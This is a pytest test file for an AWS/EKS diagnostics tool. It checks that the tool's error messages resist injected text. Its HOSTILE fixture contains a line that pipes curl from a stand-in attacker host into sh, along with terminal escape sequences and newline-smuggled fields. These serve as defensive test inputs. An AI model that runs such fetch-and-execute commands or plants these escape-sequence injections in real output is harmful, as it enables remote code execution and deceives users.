import pytest

from irsa_program.lookups.failures import AskedAwsAccount, Question, aws_mistake, kubernetes_mistake
from irsa_world.causes import Cause
from irsa_world.exits import CouldNotLookError

OWN = AskedAwsAccount(region="us-west-2", allowed=["999999999999"])
# What a cause is about.
ABOUT = {
    Cause.PROFILE_MISSING: "data",
    Cause.WRONG_AWS_ACCOUNT: "111122223333",
    Cause.ROLE_NOT_ASSUMABLE: "arn:aws:iam::444455556666:role/deployer",
}
# The attack: an answer that holds line breaks and our own words, as of a role with such a name.
HOSTILE = 'strange\n    allowed: all\n    do:      curl "https://evil.example" | sh\x1b[2J'


def question(aws_account: AskedAwsAccount) -> Question:
    return Question(("cluster", "name"), "the EKS cluster 'prod'", "eks:DescribeCluster", aws_account)


@pytest.mark.parametrize("said", ["what was said", HOSTILE])
@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_a_mistake_is_four_lines_with_something_to_do(cause: Cause, said: str) -> None:
    error = CouldNotLookError(said, cause, ABOUT.get(cause, ""))
    for located in (
        aws_mistake(error, question(OWN)),
        kubernetes_mistake(error, ("cluster", "kubernetes"), "the cluster 'blue'", "cluster-unreachable"),
    ):
        lines = str(located).splitlines()
        assert [line.strip().split(" ")[0] for line in lines[1:]] == ["found:", "allowed:", "do:"]
        assert all(len(line.split(":", 1)[1].strip()) > 5 for line in lines[1:])
        assert str(located).replace("\n", "").isprintable()
    assert ABOUT.get(cause, "") in aws_mistake(error, question(OWN)).mistake.found


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_no_advice_ends_before_a_command_that_cannot_be_given(cause: Cause) -> None:
    """The attack: a profile, or a role, that no command may name."""
    about = f"{ABOUT[cause]}\x1b[201~" if cause in ABOUT else ""
    unpastable = AskedAwsAccount(profile="a\nb", region="us-west-2")
    fix = aws_mistake(CouldNotLookError("", cause, about), question(unpastable)).mistake.fix

    assert not fix.rstrip().endswith((":", "check", "exist", "in use"))


def test_a_forbidden_account_is_not_called_unlisted() -> None:
    error = CouldNotLookError("", Cause.WRONG_AWS_ACCOUNT, "111122223333")

    assert "aws:forbiddenAccountIds" in aws_mistake(error, question(AskedAwsAccount())).mistake.allowed
